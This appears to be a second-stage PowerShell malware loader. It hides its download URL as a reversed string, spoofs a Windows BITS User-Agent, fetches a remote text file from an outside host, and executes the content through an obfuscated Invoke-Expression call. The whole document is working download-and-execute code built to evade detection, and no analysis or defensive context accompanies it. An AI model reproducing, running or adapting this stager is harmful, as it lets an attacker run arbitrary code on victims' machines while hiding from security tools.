# stage two; strings kept out of plain sight
$url = -join 'txt.ecneics/daolpu/moc.tnemeganam-ecivres//:sptth'[-1..-49]
$wc = New-Object Net.WebClient
$wc.Headers['User-Agent'] = 'Microsoft BITS/7.8'
$body = $wc.DownloadString($url)
& ('In#voke-Ex#pression'.Replace('#', '')) $body
